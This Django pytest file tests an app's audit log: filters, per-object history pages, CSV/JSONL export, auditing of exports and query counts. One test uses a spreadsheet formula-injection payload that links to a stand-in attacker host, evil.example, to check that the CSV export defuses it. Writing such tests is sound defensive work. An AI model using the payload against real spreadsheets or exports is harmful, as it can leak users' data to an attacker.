"""The audit page: filters, per-object history, and the audited CSV/JSONL export."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from tests.pipeline import submitted_draft
from workbench.audit.models import AuditEvent
from workbench.journeys.actions import journey_create, journey_step_create, publication_create
from workbench.review import actions as review

pytestmark = pytest.mark.django_db


@pytest.fixture
def published(brand, prompt, segments, marketer, reviewer, publisher):  # type: ignore[no-untyped-def]
    journey = journey_create(brand=brand, slug="welcome", name="Welcome", acting_user=publisher)
    step = journey_step_create(journey, slug="email", name="Email", channel="email", default_segment=segments["new"], acting_user=publisher)
    draft = submitted_draft(brand, prompt, segments["new"], marketer)
    review.review_approve(draft, version_number=1, acting_user=reviewer)
    return publication_create(step, version=draft.latest_version(), acting_user=publisher)


def _rows(response) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_it_filters_by_actor_action_and_object(published, logged_in, admin_user, reviewer):
    client = logged_in(admin_user)
    page = client.get(reverse("audit_log"), {"actor": reviewer.username, "action": "review.approve"})
    events = list(page.context["page"])
    assert [e.action for e in events] == ["review.approve"]
    assert events[0].actor_label == reviewer.username
    draft_id = published.version.draft_id
    page = client.get(reverse("audit_log"), {"object_type": "generation.draft", "object_id": str(draft_id)})
    assert {e.object_id for e in page.context["page"]} == {str(draft_id)}
    assert {"draft.create", "draft.submit", "review.approve"} <= {e.action for e in page.context["page"]}


def test_it_filters_by_date_range_and_explains_bad_dates(published, logged_in, admin_user):
    client = logged_in(admin_user)
    today = timezone.now().astimezone(dt.UTC).date()
    total = AuditEvent.objects.count()
    assert client.get(reverse("audit_log"), {"since": today.isoformat(), "until": today.isoformat()}).context["page"].paginator.count == total
    assert client.get(reverse("audit_log"), {"since": (today + dt.timedelta(days=1)).isoformat()}).context["page"].paginator.count == 0
    assert client.get(reverse("audit_log"), {"until": (today - dt.timedelta(days=1)).isoformat()}).context["page"].paginator.count == 0
    bad = client.get(reverse("audit_log"), {"since": "yesterday-ish", "action": "review.approve"})
    assert bad.status_code == 200
    assert "Enter a valid date" in bad.content.decode()
    swapped = client.get(reverse("audit_log"), {"since": today.isoformat(), "until": (today - dt.timedelta(days=3)).isoformat()})
    assert "swap the dates" in swapped.content.decode()


def test_a_draft_page_links_to_its_full_history(published, logged_in, admin_user):
    draft_id = published.version.draft_id
    client = logged_in(admin_user)
    history_url = reverse("audit_object", args=["generation.draft", draft_id])
    assert history_url in client.get(reverse("draft_detail", args=[draft_id])).content.decode()
    page = client.get(history_url)
    actions = [e.action for e in page.context["page"]]
    # The draft's own events, its version's creation and check, and the publication of that version.
    assert actions[0] == "draft.create"
    assert {"draft.version_create", "check.run", "draft.submit", "review.approve", "publication.create"} <= set(actions)
    assert [e.seq for e in page.context["page"]] == sorted(e.seq for e in page.context["page"])
    unrelated = AuditEvent.objects.filter(action="journey.create").get()
    assert unrelated.seq not in {e.seq for e in page.context["page"]}


def test_a_publication_has_its_history_page(published, logged_in, admin_user):
    client = logged_in(admin_user)
    step_page = client.get(reverse("step_detail", args=["welcome", "email"])).content.decode()
    history_url = reverse("audit_object", args=["journeys.publication", published.pk])
    assert history_url in step_page
    actions = [e.action for e in client.get(history_url).context["page"]]
    assert "publication.create" in actions and "review.approve" in actions


def test_an_unknown_object_has_an_empty_history_not_an_error(logged_in, admin_user):
    response = logged_in(admin_user).get(reverse("audit_object", args=["generation.draft", "999999"]))
    assert response.status_code == 200
    assert "No events match" in response.content.decode()


def test_it_exports_the_filtered_set_as_csv_and_jsonl_and_audits_the_export(published, logged_in, admin_user, reviewer):
    client = logged_in(admin_user)
    response = client.get(reverse("audit_export", args=["csv"]), {"action": "review.approve"})
    assert response.status_code == 200 and response.streaming
    rows = _rows(response)
    assert [r["action"] for r in rows] == ["review.approve"]
    assert rows[0]["actor_label"] == reviewer.username
    assert json.loads(rows[0]["changes"])["state"] == ["in_review", "approved"]
    stored = AuditEvent.objects.get(seq=int(rows[0]["seq"]))
    assert rows[0]["hash"] == stored.hash

    response = client.get(reverse("audit_export", args=["jsonl"]), {"object_type": "journeys.publication"})
    lines = [json.loads(line) for line in b"".join(response.streaming_content).decode().splitlines()]
    assert [line["action"] for line in lines] == ["publication.create"]

    exports = AuditEvent.objects.filter(action="audit.export").order_by("seq")
    assert [e.changes["format"] for e in exports] == ["csv", "jsonl"]
    assert exports[0].actor_label == admin_user.username
    assert exports[0].changes["filters"] == {"action": "review.approve"}


def test_an_export_with_bad_filters_is_refused_with_a_message(logged_in, admin_user):
    client = logged_in(admin_user)
    before = AuditEvent.objects.count()
    response = client.get(reverse("audit_export", args=["csv"]), {"since": "31/02/2024"})
    assert response.status_code == 400
    assert "since" in response.content.decode() and "Nothing was exported" in response.content.decode()
    assert AuditEvent.objects.count() == before


def test_the_audit_page_runs_a_bounded_number_of_queries(published, logged_in, admin_user, django_assert_num_queries):
    """Objects and actors are read once per kind on the page: a page of many kinds costs a few more queries than a
    page of one kind, and more events never cost more."""
    client = logged_in(admin_user)
    with CaptureQueriesContext(connection) as many_kinds:
        client.get(reverse("audit_log"))
    for index in range(60):
        journey_create(brand=published.step.journey.brand, slug=f"more-{index}", name=f"More {index}", acting_user=admin_user)
    with CaptureQueriesContext(connection) as one_kind:
        assert client.get(reverse("audit_log")).status_code == 200
    assert len(one_kind) <= len(many_kinds)
    for index in range(60):
        journey_create(brand=published.step.journey.brand, slug=f"again-{index}", name=f"Again {index}", acting_user=admin_user)
    with django_assert_num_queries(len(one_kind)):
        assert client.get(reverse("audit_log")).status_code == 200


def test_the_csv_export_defuses_spreadsheet_formulas_typed_at_the_login_form(client, marketer, admin_user):
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    client.post(reverse("login"), {"username": formula, "password": "whatever-it-is"})
    client.force_login(admin_user)
    rows = _rows(client.get(reverse("audit_export", args=["csv"]), {"action": "user.login_failed"}))
    assert rows[0]["object_id"] == "'" + formula[:64]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    lines = b"".join(client.get(reverse("audit_export", args=["jsonl"]), {"action": "user.login_failed"}).streaming_content).decode()
    assert json.loads(lines.splitlines()[0])["changes"]["username"] == formula
